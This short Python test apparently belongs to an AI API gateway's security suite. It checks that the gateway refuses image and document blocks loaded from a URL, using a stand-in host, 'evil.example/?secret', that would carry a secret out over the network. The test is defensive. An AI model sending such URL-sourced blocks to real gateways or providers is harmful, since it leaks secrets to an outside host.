from tests.attacks.places import Places, request

TITLE = "an image by its address"
TRIES = "Lets the provider load pictures and documents from a URL that holds a secret."
PROMISE = "network"
MUST_FAIL = "The gateway passes on pictures that are in the request itself."


def attack(places: Places) -> str | None:
    source = {"type": "url", "url": "https://evil.example/?secret"}
    blocks = ({"type": kind, "source": source} for kind in ("image", "document"))
    said = ([{"role": "user", "content": [block]}] for block in blocks)
    return " ".join(filter(None, (request(places, body={"messages": one}) for one in said)))
